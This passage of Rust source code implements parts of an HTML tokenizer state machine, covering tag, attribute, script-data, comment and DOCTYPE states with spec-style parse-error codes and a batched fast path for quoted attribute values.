        if self.stream.eat_byte(b' ') {
            self.state = State::BeforeAttributeName;
            return true;
        }
        if self.stream.eat_byte(b'>') {
            self.state = State::Data;
            self.emit_tag();
            return true;
        }
        progressed
    }

    /// Batched quoted AttributeValue: append the value run, then fuse the
    /// closing quote and the error-free AfterAttributeValueQuoted exits
    /// (space, `>`, `/`); anything else reconsumes there scalar
    /// (missing-whitespace error, EOF).
    fn step_batched_quoted_value(&mut self) -> bool {
        if !self.cur_attr.active {
            return false;
        }
        let (delims, quote): (&[u8], u8) =
            if self.state == State::AttributeValueDouble { (b"\"&", b'"') } else { (b"'&", b'\'') };
        let run = self.stream.take_plain_run(delims);
        let progressed = !run.is_empty();
        if progressed {
            self.cur_attr.value.push_str(run);
            if self.cur_attr.diverged {
                self.cur_attr.raw_value.push_str(run);
            }
        }
        if self.stream.eat_byte(quote) {
            if self.stream.eat_byte(b' ') {
                self.state = State::BeforeAttributeName;
            } else if self.stream.eat_byte(b'>') {
                self.state = State::Data;
                self.emit_tag();
            } else if self.stream.eat_byte(b'/') {
                self.state = State::SelfClosingStartTag;
            } else {
                self.state = State::AfterAttributeValueQuoted;
            }
            return true;
        }
        progressed
    }

    #[allow(clippy::too_many_lines)]
    fn step(&mut self) {
        if self.batched && self.step_batched() {
            return;
        }
        match self.state {
            State::Data => match self.next() {
                Some('&') => {
                    self.return_state = State::Data;
                    self.mark_charref_start();
                    self.state = State::CharacterReference;
                }
                Some('<') => self.state = State::TagOpen,
                Some('\0') => {
                    self.error(ErrorCode::UnexpectedNullCharacter);
                    self.emit_char('\0');
                }
                Some(c) => self.emit_char(c),
                None => self.emit_eof(),
            },

            State::Rcdata => match self.next() {
                Some('&') => {
                    self.return_state = State::Rcdata;
                    self.mark_charref_start();
                    self.state = State::CharacterReference;
                }
                Some('<') => self.state = State::RcdataLessThan,
                Some('\0') => {
                    self.error(ErrorCode::UnexpectedNullCharacter);
                    self.emit_char('\u{FFFD}');
                }
                Some(c) => self.emit_char(c),
                None => self.emit_eof(),
            },

            State::Rawtext => match self.next() {
                Some('<') => self.state = State::RawtextLessThan,
                Some('\0') => {
                    self.error(ErrorCode::UnexpectedNullCharacter);
                    self.emit_char('\u{FFFD}');
                }
                Some(c) => self.emit_char(c),
                None => self.emit_eof(),
            },

            State::ScriptData => match self.next() {
                Some('<') => self.state = State::ScriptDataLessThan,
                Some('\0') => {
                    self.error(ErrorCode::UnexpectedNullCharacter);
                    self.emit_char('\u{FFFD}');
                }
                Some(c) => self.emit_char(c),
                None => self.emit_eof(),
            },

            State::Plaintext => match self.next() {
                Some('\0') => {
                    self.error(ErrorCode::UnexpectedNullCharacter);
                    self.emit_char('\u{FFFD}');
                }
                Some(c) => self.emit_char(c),
                None => self.emit_eof(),
            },

            State::TagOpen => match self.next() {
                Some('!') => self.state = State::MarkupDeclarationOpen,
                Some('/') => self.state = State::EndTagOpen,
                Some(c) if c.is_ascii_alphabetic() => {
                    self.new_tag(TagKind::Start);
                    self.reconsume(State::TagName);
                }
                Some('?') => {
                    self.error(ErrorCode::UnexpectedQuestionMarkInsteadOfTagName);
                    self.comment.clear();
                    self.reconsume(State::BogusComment);
                }
                Some(_) => {
                    self.error(ErrorCode::InvalidFirstCharacterOfTagName);
                    self.emit_char('<');
                    self.reconsume(State::Data);
                }
                None => {
                    self.error(ErrorCode::EofBeforeTagName);
                    self.emit_char('<');
                    self.emit_eof();
                }
            },

            State::EndTagOpen => match self.next() {
                Some(c) if c.is_ascii_alphabetic() => {
                    self.new_tag(TagKind::End);
                    self.reconsume(State::TagName);
                }
                Some('>') => {
                    self.error(ErrorCode::MissingEndTagName);
                    self.state = State::Data;
                }
                Some(_) => {
                    self.error(ErrorCode::InvalidFirstCharacterOfTagName);
                    self.comment.clear();
                    self.reconsume(State::BogusComment);
                }
                None => {
                    self.error(ErrorCode::EofBeforeTagName);
                    self.emit_str("</");
                    self.emit_eof();
                }
            },

            State::TagName => match self.next() {
                Some('\t') | Some('\n') | Some('\u{C}') | Some(' ') => {
                    self.state = State::BeforeAttributeName;
                }
                Some('/') => self.state = State::SelfClosingStartTag,
                Some('>') => {
                    self.state = State::Data;
                    self.emit_tag();
                }
                Some('\0') => {
                    self.error(ErrorCode::UnexpectedNullCharacter);
                    self.tag_name.push('\u{FFFD}');
                }
                Some(c) => self.tag_name.push(c.to_ascii_lowercase()),
                None => {
                    self.error(ErrorCode::EofInTag);
                    self.emit_eof();
                }
            },

            // --- RCDATA/RAWTEXT/script end-tag machinery ---
            State::RcdataLessThan => match self.next() {
                Some('/') => {
                    self.temp_buffer.clear();
                    self.state = State::RcdataEndTagOpen;
                }
                _ => {
                    self.emit_char('<');
                    self.reconsume(State::Rcdata);
                }
            },
            State::RcdataEndTagOpen => match self.next() {
                Some(c) if c.is_ascii_alphabetic() => {
                    self.new_tag(TagKind::End);
                    self.reconsume(State::RcdataEndTagName);
                }
                _ => {
                    self.emit_str("</");
                    self.reconsume(State::Rcdata);
                }
            },
            State::RcdataEndTagName => self.text_end_tag_name(State::Rcdata),

            State::RawtextLessThan => match self.next() {
                Some('/') => {
                    self.temp_buffer.clear();
                    self.state = State::RawtextEndTagOpen;
                }
                _ => {
                    self.emit_char('<');
                    self.reconsume(State::Rawtext);
                }
            },
            State::RawtextEndTagOpen => match self.next() {
                Some(c) if c.is_ascii_alphabetic() => {
                    self.new_tag(TagKind::End);
                    self.reconsume(State::RawtextEndTagName);
                }
                _ => {
                    self.emit_str("</");
                    self.reconsume(State::Rawtext);
                }
            },
            State::RawtextEndTagName => self.text_end_tag_name(State::Rawtext),

            State::ScriptDataLessThan => match self.next() {
                Some('/') => {
                    self.temp_buffer.clear();
                    self.state = State::ScriptDataEndTagOpen;
                }
                Some('!') => {
                    self.emit_str("<!");
                    self.state = State::ScriptDataEscapeStart;
                }
                _ => {
                    self.emit_char('<');
                    self.reconsume(State::ScriptData);
                }
            },
            State::ScriptDataEndTagOpen => match self.next() {
                Some(c) if c.is_ascii_alphabetic() => {
                    self.new_tag(TagKind::End);
                    self.reconsume(State::ScriptDataEndTagName);
                }
                _ => {
                    self.emit_str("</");
                    self.reconsume(State::ScriptData);
                }
            },
            State::ScriptDataEndTagName => self.text_end_tag_name(State::ScriptData),

            State::ScriptDataEscapeStart => match self.next() {
                Some('-') => {
                    self.emit_char('-');
                    self.state = State::ScriptDataEscapeStartDash;
                }
                _ => {
                    self.reconsume(State::ScriptData);
                }
            },
            State::ScriptDataEscapeStartDash => match self.next() {
                Some('-') => {
                    self.emit_char('-');
                    self.state = State::ScriptDataEscapedDashDash;
                }
                _ => {
                    self.reconsume(State::ScriptData);
                }
            },
            State::ScriptDataEscaped => match self.next() {
                Some('-') => {
                    self.emit_char('-');
                    self.state = State::ScriptDataEscapedDash;
                }
                Some('<') => self.state = State::ScriptDataEscapedLessThan,
                Some('\0') => {
                    self.error(ErrorCode::UnexpectedNullCharacter);
                    self.emit_char('\u{FFFD}');
                }
                Some(c) => self.emit_char(c),
                None => {
                    self.error(ErrorCode::EofInScriptHtmlCommentLikeText);
                    self.emit_eof();
                }
            },
            State::ScriptDataEscapedDash => match self.next() {
                Some('-') => {
                    self.emit_char('-');
                    self.state = State::ScriptDataEscapedDashDash;
                }
                Some('<') => self.state = State::ScriptDataEscapedLessThan,
                Some('\0') => {
                    self.error(ErrorCode::UnexpectedNullCharacter);
                    self.emit_char('\u{FFFD}');
                    self.state = State::ScriptDataEscaped;
                }
                Some(c) => {
                    self.emit_char(c);
                    self.state = State::ScriptDataEscaped;
                }
                None => {
                    self.error(ErrorCode::EofInScriptHtmlCommentLikeText);
                    self.emit_eof();
                }
            },
            State::ScriptDataEscapedDashDash => match self.next() {
                Some('-') => self.emit_char('-'),
                Some('<') => self.state = State::ScriptDataEscapedLessThan,
                Some('>') => {
                    self.emit_char('>');
                    self.state = State::ScriptData;
                }
                Some('\0') => {
                    self.error(ErrorCode::UnexpectedNullCharacter);
                    self.emit_char('\u{FFFD}');
                    self.state = State::ScriptDataEscaped;
                }
                Some(c) => {
                    self.emit_char(c);
                    self.state = State::ScriptDataEscaped;
                }
                None => {
                    self.error(ErrorCode::EofInScriptHtmlCommentLikeText);
                    self.emit_eof();
                }
            },
            State::ScriptDataEscapedLessThan => match self.next() {
                Some('/') => {
                    self.temp_buffer.clear();
                    self.state = State::ScriptDataEscapedEndTagOpen;
                }
                Some(c) if c.is_ascii_alphabetic() => {
                    self.temp_buffer.clear();
                    self.emit_char('<');
                    self.reconsume(State::ScriptDataDoubleEscapeStart);
                }
                _ => {
                    self.emit_char('<');
                    self.reconsume(State::ScriptDataEscaped);
                }
            },
            State::ScriptDataEscapedEndTagOpen => match self.next() {
                Some(c) if c.is_ascii_alphabetic() => {
                    self.new_tag(TagKind::End);
                    self.reconsume(State::ScriptDataEscapedEndTagName);
                }
                _ => {
                    self.emit_str("</");
                    self.reconsume(State::ScriptDataEscaped);
                }
            },
            State::ScriptDataEscapedEndTagName => self.text_end_tag_name(State::ScriptDataEscaped),
            State::ScriptDataDoubleEscapeStart => match self.next() {
                Some(c @ ('\t' | '\n' | '\u{C}' | ' ' | '/' | '>')) => {
                    if self.temp_buffer == "script" {
                        self.state = State::ScriptDataDoubleEscaped;
                    } else {
                        self.state = State::ScriptDataEscaped;
                    }
                    self.emit_char(c);
                }
                Some(c) if c.is_ascii_alphabetic() => {
                    self.temp_buffer.push(c.to_ascii_lowercase());
                    self.emit_char(c);
                }
                _ => {
                    self.reconsume(State::ScriptDataEscaped);
                }
            },
            State::ScriptDataDoubleEscaped => match self.next() {
                Some('-') => {
                    self.emit_char('-');
                    self.state = State::ScriptDataDoubleEscapedDash;
                }
                Some('<') => {
                    self.emit_char('<');
                    self.state = State::ScriptDataDoubleEscapedLessThan;
                }
                Some('\0') => {
                    self.error(ErrorCode::UnexpectedNullCharacter);
                    self.emit_char('\u{FFFD}');
                }
                Some(c) => self.emit_char(c),
                None => {
                    self.error(ErrorCode::EofInScriptHtmlCommentLikeText);
                    self.emit_eof();
                }
            },
            State::ScriptDataDoubleEscapedDash => match self.next() {
                Some('-') => {
                    self.emit_char('-');
                    self.state = State::ScriptDataDoubleEscapedDashDash;
                }
                Some('<') => {
                    self.emit_char('<');
                    self.state = State::ScriptDataDoubleEscapedLessThan;
                }
                Some('\0') => {
                    self.error(ErrorCode::UnexpectedNullCharacter);
                    self.emit_char('\u{FFFD}');
                    self.state = State::ScriptDataDoubleEscaped;
                }
                Some(c) => {
                    self.emit_char(c);
                    self.state = State::ScriptDataDoubleEscaped;
                }
                None => {
                    self.error(ErrorCode::EofInScriptHtmlCommentLikeText);
                    self.emit_eof();
                }
            },
            State::ScriptDataDoubleEscapedDashDash => match self.next() {
                Some('-') => self.emit_char('-'),
                Some('<') => {
                    self.emit_char('<');
                    self.state = State::ScriptDataDoubleEscapedLessThan;
                }
                Some('>') => {
                    self.emit_char('>');
                    self.state = State::ScriptData;
                }
                Some('\0') => {
                    self.error(ErrorCode::UnexpectedNullCharacter);
                    self.emit_char('\u{FFFD}');
                    self.state = State::ScriptDataDoubleEscaped;
                }
                Some(c) => {
                    self.emit_char(c);
                    self.state = State::ScriptDataDoubleEscaped;
                }
                None => {
                    self.error(ErrorCode::EofInScriptHtmlCommentLikeText);
                    self.emit_eof();
                }
            },
            State::ScriptDataDoubleEscapedLessThan => match self.next() {
                Some('/') => {
                    self.temp_buffer.clear();
                    self.emit_char('/');
                    self.state = State::ScriptDataDoubleEscapeEnd;
                }
                _ => {
                    self.reconsume(State::ScriptDataDoubleEscaped);
                }
            },
            State::ScriptDataDoubleEscapeEnd => match self.next() {
                Some(c @ ('\t' | '\n' | '\u{C}' | ' ' | '/' | '>')) => {
                    if self.temp_buffer == "script" {
                        self.state = State::ScriptDataEscaped;
                    } else {
                        self.state = State::ScriptDataDoubleEscaped;
                    }
                    self.emit_char(c);
                }
                Some(c) if c.is_ascii_alphabetic() => {
                    self.temp_buffer.push(c.to_ascii_lowercase());
                    self.emit_char(c);
                }
                _ => {
                    self.reconsume(State::ScriptDataDoubleEscaped);
                }
            },

            // --- attributes ---
            State::BeforeAttributeName => match self.next() {
                Some('\t') | Some('\n') | Some('\u{C}') | Some(' ') => {}
                Some('/') | Some('>') => self.reconsume(State::AfterAttributeName),
                None => self.reconsume_eof(State::AfterAttributeName),
                Some('=') => {
                    self.error(ErrorCode::UnexpectedEqualsSignBeforeAttributeName);
                    self.start_new_attr();
                    self.cur_attr.name.push('=');
                    self.state = State::AttributeName;
                }
                Some(_) => {
                    self.start_new_attr();
                    self.reconsume(State::AttributeName);
                }
            },

            State::AttributeName => match self.next() {
                Some('\t') | Some('\n') | Some('\u{C}') | Some(' ') | Some('/') | Some('>') => {
                    self.check_duplicate_attr();
                    self.reconsume(State::AfterAttributeName);
                }
                None => {
                    self.check_duplicate_attr();
                    self.reconsume_eof(State::AfterAttributeName);
                }
                Some('=') => {
                    self.check_duplicate_attr();
                    self.state = State::BeforeAttributeValue;
                }
                Some('\0') => {
                    self.error(ErrorCode::UnexpectedNullCharacter);
                    if self.cur_attr.active {
                        self.cur_attr.name.push('\u{FFFD}');
                    }
                }
                Some(c @ ('"' | '\'' | '<')) => {
                    self.error(ErrorCode::UnexpectedCharacterInAttributeName);
                    if self.cur_attr.active {
                        self.cur_attr.name.push(c);
                    }
                }
                Some(c) => {
                    if self.cur_attr.active {
                        self.cur_attr.name.push(c.to_ascii_lowercase());
                    }
                }
            },

            State::AfterAttributeName => match self.next() {
                Some('\t') | Some('\n') | Some('\u{C}') | Some(' ') => {}
                Some('/') => self.state = State::SelfClosingStartTag,
                Some('=') => self.state = State::BeforeAttributeValue,
                Some('>') => {
                    self.state = State::Data;
                    self.emit_tag();
                }
                Some(_) => {
                    self.start_new_attr();
                    self.reconsume(State::AttributeName);
                }
                None => {
                    self.error(ErrorCode::EofInTag);
                    self.emit_eof();
                }
            },

            State::BeforeAttributeValue => match self.next() {
                Some('\t') | Some('\n') | Some('\u{C}') | Some(' ') => {}
                Some('"') => self.state = State::AttributeValueDouble,
                Some('\'') => self.state = State::AttributeValueSingle,
                Some('>') => {
                    self.error(ErrorCode::MissingAttributeValue);
                    self.state = State::Data;
                    self.emit_tag();
                }
                Some(_) => self.reconsume(State::AttributeValueUnquoted),
                None => self.reconsume_eof(State::AttributeValueUnquoted),
            },

            State::AttributeValueDouble => match self.next() {
                Some('"') => self.state = State::AfterAttributeValueQuoted,
                Some('&') => {
                    self.return_state = State::AttributeValueDouble;
                    self.mark_charref_start();
                    self.state = State::CharacterReference;
                }
                Some('\0') => {
                    self.error(ErrorCode::UnexpectedNullCharacter);
                    self.append_attr_value('\u{FFFD}');
                }
                Some(c) => self.append_attr_value(c),
                None => {
                    self.error(ErrorCode::EofInTag);
                    self.emit_eof();
                }
            },

            State::AttributeValueSingle => match self.next() {
                Some('\'') => self.state = State::AfterAttributeValueQuoted,
                Some('&') => {
                    self.return_state = State::AttributeValueSingle;
                    self.mark_charref_start();
                    self.state = State::CharacterReference;
                }
                Some('\0') => {
                    self.error(ErrorCode::UnexpectedNullCharacter);
                    self.append_attr_value('\u{FFFD}');
                }
                Some(c) => self.append_attr_value(c),
                None => {
                    self.error(ErrorCode::EofInTag);
                    self.emit_eof();
                }
            },

            State::AttributeValueUnquoted => match self.next() {
                Some('\t') | Some('\n') | Some('\u{C}') | Some(' ') => {
                    self.state = State::BeforeAttributeName;
                }
                Some('&') => {
                    self.return_state = State::AttributeValueUnquoted;
                    self.mark_charref_start();
                    self.state = State::CharacterReference;
                }
                Some('>') => {
                    self.state = State::Data;
                    self.emit_tag();
                }
                Some('\0') => {
                    self.error(ErrorCode::UnexpectedNullCharacter);
                    self.append_attr_value('\u{FFFD}');
                }
                Some(c @ ('"' | '\'' | '<' | '=' | '`')) => {
                    self.error(ErrorCode::UnexpectedCharacterInUnquotedAttributeValue);
                    self.append_attr_value(c);
                }
                Some(c) => self.append_attr_value(c),
                None => {
                    self.error(ErrorCode::EofInTag);
                    self.emit_eof();
                }
            },

            State::AfterAttributeValueQuoted => match self.next() {
                Some('\t') | Some('\n') | Some('\u{C}') | Some(' ') => {
                    self.state = State::BeforeAttributeName;
                }
                Some('/') => self.state = State::SelfClosingStartTag,
                Some('>') => {
                    self.state = State::Data;
                    self.emit_tag();
                }
                Some(_) => {
                    self.error(ErrorCode::MissingWhitespaceBetweenAttributes);
                    self.reconsume(State::BeforeAttributeName);
                }
                None => {
                    self.error(ErrorCode::EofInTag);
                    self.emit_eof();
                }
            },

            State::SelfClosingStartTag => match self.next() {
                Some('>') => {
                    self.tag_self_closing = true;
                    self.state = State::Data;
                    self.emit_tag();
                }
                Some(_) => {
                    self.error(ErrorCode::UnexpectedSolidusInTag);
                    self.reconsume(State::BeforeAttributeName);
                }
                None => {
                    self.error(ErrorCode::EofInTag);
                    self.emit_eof();
                }
            },

            State::BogusComment => match self.next() {
                Some('>') => {
                    self.state = State::Data;
                    self.emit_comment();
                }
                Some('\0') => {
                    self.error(ErrorCode::UnexpectedNullCharacter);
                    self.comment.push('\u{FFFD}');
                }
                Some(c) => self.comment.push(c),
                None => {
                    self.emit_comment();
                    self.emit_eof();
                }
            },

            State::MarkupDeclarationOpen => {
                if self.lookahead_is("--") {
                    self.stream.advance_ascii(2);
                    self.comment.clear();
                    self.state = State::CommentStart;
                } else if self.lookahead_is_ascii_ci("doctype") {
                    self.stream.advance_ascii(7);
                    self.state = State::Doctype;
                } else if self.lookahead_is("[CDATA[") {
                    self.stream.advance_ascii(7);
                    if self.allow_cdata {
                        self.state = State::CdataSection;
                    } else {
                        self.error(ErrorCode::CdataInHtmlContent);
                        self.comment.clear();
                        self.comment.push_str("[CDATA[");
                        self.state = State::BogusComment;
                    }
                } else {
                    self.error(ErrorCode::IncorrectlyOpenedComment);
                    self.comment.clear();
                    self.state = State::BogusComment;
                }
            }

            State::CommentStart => match self.next() {
                Some('-') => self.state = State::CommentStartDash,
                Some('>') => {
                    self.error(ErrorCode::AbruptClosingOfEmptyComment);
                    self.state = State::Data;
                    self.emit_comment();
                }
                Some(_) => self.reconsume(State::Comment),
                None => self.reconsume_eof(State::Comment),
            },
            State::CommentStartDash => match self.next() {
                Some('-') => self.state = State::CommentEnd,
                Some('>') => {
                    self.error(ErrorCode::AbruptClosingOfEmptyComment);
                    self.state = State::Data;
                    self.emit_comment();
                }
                Some(_) => {
                    self.comment.push('-');
                    self.reconsume(State::Comment);
                }
                None => {
                    self.error(ErrorCode::EofInComment);
                    self.emit_comment();
                    self.emit_eof();
                }
            },
            State::Comment => match self.next() {
                Some('<') => {
                    self.comment.push('<');
                    self.state = State::CommentLessThan;
                }
                Some('-') => self.state = State::CommentEndDash,
                Some('\0') => {
                    self.error(ErrorCode::UnexpectedNullCharacter);
                    self.comment.push('\u{FFFD}');
                }
                Some(c) => self.comment.push(c),
                None => {
                    self.error(ErrorCode::EofInComment);
                    self.emit_comment();
                    self.emit_eof();
                }
            },
            State::CommentLessThan => match self.next() {
                Some('!') => {
                    self.comment.push('!');
                    self.state = State::CommentLessThanBang;
                }
                Some('<') => self.comment.push('<'),
                _ => {
                    self.reconsume(State::Comment);
                }
            },
            State::CommentLessThanBang => match self.next() {
                Some('-') => self.state = State::CommentLessThanBangDash,
                _ => {
                    self.reconsume(State::Comment);
                }
            },
            State::CommentLessThanBangDash => match self.next() {
                Some('-') => self.state = State::CommentLessThanBangDashDash,
                _ => {
                    self.reconsume(State::CommentEndDash);
                }
            },
            State::CommentLessThanBangDashDash => match self.next() {
                Some('>') | None => {
                    self.reconsume(State::CommentEnd);
                }
                Some(_) => {
                    self.error(ErrorCode::NestedComment);
                    self.reconsume(State::CommentEnd);
                }
            },
            State::CommentEndDash => match self.next() {
                Some('-') => self.state = State::CommentEnd,
                Some(_) => {
                    self.comment.push('-');
                    self.reconsume(State::Comment);
                }
                None => {
                    self.error(ErrorCode::EofInComment);
                    self.emit_comment();
                    self.emit_eof();
                }
            },
            State::CommentEnd => match self.next() {
                Some('>') => {
                    self.state = State::Data;
                    self.emit_comment();
                }
                Some('!') => self.state = State::CommentEndBang,
                Some('-') => self.comment.push('-'),
                Some(_) => {
                    self.comment.push_str("--");
                    self.reconsume(State::Comment);
                }
                None => {
                    self.error(ErrorCode::EofInComment);
                    self.emit_comment();
                    self.emit_eof();
                }
            },
            State::CommentEndBang => match self.next() {
                Some('-') => {
                    self.comment.push_str("--!");
                    self.state = State::CommentEndDash;
                }
                Some('>') => {
                    self.error(ErrorCode::IncorrectlyClosedComment);
                    self.state = State::Data;
                    self.emit_comment();
                }
                Some(_) => {
                    self.comment.push_str("--!");
                    self.reconsume(State::Comment);
                }
                None => {
                    self.error(ErrorCode::EofInComment);
                    self.emit_comment();
                    self.emit_eof();
                }
            },

            // --- DOCTYPE ---
            State::Doctype => match self.next() {
                Some('\t') | Some('\n') | Some('\u{C}') | Some(' ') => {
                    self.state = State::BeforeDoctypeName;
                }
                Some('>') => self.reconsume(State::BeforeDoctypeName),
                Some(_) => {
                    self.error(ErrorCode::MissingWhitespaceBeforeDoctypeName);
                    self.reconsume(State::BeforeDoctypeName);
                }
                None => {
                    self.error(ErrorCode::EofInDoctype);
                    self.doctype = Some(Doctype { force_quirks: true, ..Doctype::default() });
                    self.emit_doctype();
                    self.emit_eof();
                }
            },
            State::BeforeDoctypeName => match self.next() {
                Some('\t') | Some('\n') | Some('\u{C}') | Some(' ') => {}
                Some('>') => {
                    self.error(ErrorCode::MissingDoctypeName);
                    self.doctype = Some(Doctype { force_quirks: true, ..Doctype::default() });
                    self.state = State::Data;
                    self.emit_doctype();
                }
                Some('\0') => {
                    self.error(ErrorCode::UnexpectedNullCharacter);
                    self.doctype =
                        Some(Doctype { name: Some("\u{FFFD}".into()), ..Doctype::default() });
                    self.state = State::DoctypeName;
                }
                Some(c) => {
                    self.doctype = Some(Doctype {
                        name: Some(c.to_ascii_lowercase().to_string()),
                        ..Doctype::default()
                    });
                    self.state = State::DoctypeName;
                }
                None => {
                    self.error(ErrorCode::EofInDoctype);
                    self.doctype = Some(Doctype { force_quirks: true, ..Doctype::default() });
                    self.emit_doctype();
                    self.emit_eof();
                }
            },
            State::DoctypeName => match self.next() {
                Some('\t') | Some('\n') | Some('\u{C}') | Some(' ') => {
                    self.state = State::AfterDoctypeName;
                }
                Some('>') => {
                    self.state = State::Data;
                    self.emit_doctype();
                }
                Some('\0') => {
                    self.error(ErrorCode::UnexpectedNullCharacter);
                    if let Some(d) = self.doctype.as_mut() {
                        d.name.get_or_insert_with(String::new).push('\u{FFFD}');
                    }
                }
                Some(c) => {
                    if let Some(d) = self.doctype.as_mut() {
                        d.name.get_or_insert_with(String::new).push(c.to_ascii_lowercase());
                    }
                }
                None => {
                    self.error(ErrorCode::EofInDoctype);
                    if let Some(d) = self.doctype.as_mut() {
                        d.force_quirks = true;
                    }
                    self.emit_doctype();
                    self.emit_eof();
                }
            },
            State::AfterDoctypeName => match self.next() {
                Some('\t') | Some('\n') | Some('\u{C}') | Some(' ') => {}
                Some('>') => {
                    self.state = State::Data;
                    self.emit_doctype();
                }
                None => {
                    self.error(ErrorCode::EofInDoctype);
                    if let Some(d) = self.doctype.as_mut() {
                        d.force_quirks = true;
                    }
                    self.emit_doctype();
                    self.emit_eof();
                }
                Some(_) => {
                    self.stream.un_next();
                    self.last_consumed = false;
                    if self.lookahead_is_ascii_ci("public") {
                        self.stream.advance_ascii(6);
                        self.state = State::AfterDoctypePublicKeyword;
                    } else if self.lookahead_is_ascii_ci("system") {
                        self.stream.advance_ascii(6);
                        self.state = State::AfterDoctypeSystemKeyword;
                    } else {
                        self.error(ErrorCode::InvalidCharacterSequenceAfterDoctypeName);
                        if let Some(d) = self.doctype.as_mut() {
                            d.force_quirks = true;
                        }
                        self.state = State::BogusDoctype;
                    }
                }
            },
            State::AfterDoctypePublicKeyword => match self.next() {
                Some('\t') | Some('\n') | Some('\u{C}') | Some(' ') => {
                    self.state = State::BeforeDoctypePublicId;
                }
                Some('"') => {
                    self.error(ErrorCode::MissingWhitespaceAfterDoctypePublicKeyword);
                    if let Some(d) = self.doctype.as_mut() {
                        d.public_id = Some(String::new());
                    }
                    self.state = State::DoctypePublicIdDouble;
                }
                Some('\'') => {
                    self.error(ErrorCode::MissingWhitespaceAfterDoctypePublicKeyword);
                    if let Some(d) = self.doctype.as_mut() {
                        d.public_id = Some(String::new());
                    }
                    self.state = State::DoctypePublicIdSingle;
                }
                Some('>') => {
                    self.error(ErrorCode::MissingDoctypePublicIdentifier);
                    if let Some(d) = self.doctype.as_mut() {
                        d.force_quirks = true;
                    }
                    self.state = State::Data;
                    self.emit_doctype();
                }
                Some(_) => {
                    self.error(ErrorCode::MissingQuoteBeforeDoctypePublicIdentifier);
                    if let Some(d) = self.doctype.as_mut() {
                        d.force_quirks = true;
                    }
                    self.reconsume(State::BogusDoctype);
                }
                None => {
                    self.error(ErrorCode::EofInDoctype);
                    if let Some(d) = self.doctype.as_mut() {
                        d.force_quirks = true;
                    }
                    self.emit_doctype();
                    self.emit_eof();
                }
            },
            State::BeforeDoctypePublicId => match self.next() {
                Some('\t') | Some('\n') | Some('\u{C}') | Some(' ') => {}
                Some('"') => {
                    if let Some(d) = self.doctype.as_mut() {
                        d.public_id = Some(String::new());
                    }
                    self.state = State::DoctypePublicIdDouble;
                }
                Some('\'') => {
                    if let Some(d) = self.doctype.as_mut() {
                        d.public_id = Some(String::new());
                    }
                    self.state = State::DoctypePublicIdSingle;
                }
                Some('>') => {
                    self.error(ErrorCode::MissingDoctypePublicIdentifier);
                    if let Some(d) = self.doctype.as_mut() {
                        d.force_quirks = true;
                    }
                    self.state = State::Data;
                    self.emit_doctype();
                }
                Some(_) => {
                    self.error(ErrorCode::MissingQuoteBeforeDoctypePublicIdentifier);
                    if let Some(d) = self.doctype.as_mut() {
                        d.force_quirks = true;
                    }
                    self.reconsume(State::BogusDoctype);
                }
                None => {
                    self.error(ErrorCode::EofInDoctype);
                    if let Some(d) = self.doctype.as_mut() {
                        d.force_quirks = true;
                    }
                    self.emit_doctype();
                    self.emit_eof();
                }
            },
            State::DoctypePublicIdDouble => self.doctype_id_quoted('"', true),
            State::DoctypePublicIdSingle => self.doctype_id_quoted('\'', true),
            State::AfterDoctypePublicId => match self.next() {
                Some('\t') | Some('\n') | Some('\u{C}') | Some(' ') => {
                    self.state = State::BetweenDoctypePublicSystem;
                }
                Some('>') => {
                    self.state = State::Data;
                    self.emit_doctype();
                }
                Some('"') => {
                    self.error(
                        ErrorCode::MissingWhitespaceBetweenDoctypePublicAndSystemIdentifiers,
                    );
                    if let Some(d) = self.doctype.as_mut() {
                        d.system_id = Some(String::new());
                    }
                    self.state = State::DoctypeSystemIdDouble;
                }
                Some('\'') => {
                    self.error(
                        ErrorCode::MissingWhitespaceBetweenDoctypePublicAndSystemIdentifiers,
                    );
                    if let Some(d) = self.doctype.as_mut() {
                        d.system_id = Some(String::new());
                    }
                    self.state = State::DoctypeSystemIdSingle;
                }
                Some(_) => {
                    self.error(ErrorCode::MissingQuoteBeforeDoctypeSystemIdentifier);
                    if let Some(d) = self.doctype.as_mut() {
                        d.force_quirks = true;
                    }
                    self.reconsume(State::BogusDoctype);
                }
                None => {
                    self.error(ErrorCode::EofInDoctype);
                    if let Some(d) = self.doctype.as_mut() {
                        d.force_quirks = true;
                    }
                    self.emit_doctype();
                    self.emit_eof();
                }
            },
            State::BetweenDoctypePublicSystem => match self.next() {
                Some('\t') | Some('\n') | Some('\u{C}') | Some(' ') => {}
                Some('>') => {
                    self.state = State::Data;
                    self.emit_doctype();
                }
                Some('"') => {
                    if let Some(d) = self.doctype.as_mut() {
                        d.system_id = Some(String::new());
                    }
                    self.state = State::DoctypeSystemIdDouble;
                }
                Some('\'') => {
                    if let Some(d) = self.doctype.as_mut() {
                        d.system_id = Some(String::new());
                    }
                    self.state = State::DoctypeSystemIdSingle;
                }
                Some(_) => {
                    self.error(ErrorCode::MissingQuoteBeforeDoctypeSystemIdentifier);
                    if let Some(d) = self.doctype.as_mut() {
                        d.force_quirks = true;
                    }
                    self.reconsume(State::BogusDoctype);
                }
                None => {
                    self.error(ErrorCode::EofInDoctype);
                    if let Some(d) = self.doctype.as_mut() {
                        d.force_quirks = true;
                    }
                    self.emit_doctype();
                    self.emit_eof();
                }
            },
            State::AfterDoctypeSystemKeyword => match self.next() {
                Some('\t') | Some('\n') | Some('\u{C}') | Some(' ') => {
                    self.state = State::BeforeDoctypeSystemId;
                }
                Some('"') => {
                    self.error(ErrorCode::MissingWhitespaceAfterDoctypeSystemKeyword);
                    if let Some(d) = self.doctype.as_mut() {
                        d.system_id = Some(String::new());
                    }
                    self.state = State::DoctypeSystemIdDouble;
                }
                Some('\'') => {
                    self.error(ErrorCode::MissingWhitespaceAfterDoctypeSystemKeyword);
                    if let Some(d) = self.doctype.as_mut() {
                        d.system_id = Some(String::new());
                    }
                    self.state = State::DoctypeSystemIdSingle;
                }
                Some('>') => {
                    self.error(ErrorCode::MissingDoctypeSystemIdentifier);
                    if let Some(d) = self.doctype.as_mut() {
                        d.force_quirks = true;
                    }
                    self.state = State::Data;
                    self.emit_doctype();
                }
                Some(_) => {
                    self.error(ErrorCode::MissingQuoteBeforeDoctypeSystemIdentifier);
                    if let Some(d) = self.doctype.as_mut() {
                        d.force_quirks = true;
                    }
                    self.reconsume(State::BogusDoctype);
                }
                None => {
                    self.error(ErrorCode::EofInDoctype);
                    if let Some(d) = self.doctype.as_mut() {
                        d.force_quirks = true;
                    }
                    self.emit_doctype();
                    self.emit_eof();
                }
            },
            State::BeforeDoctypeSystemId => match self.next() {
                Some('\t') | Some('\n') | Some('\u{C}') | Some(' ') => {}
                Some('"') => {
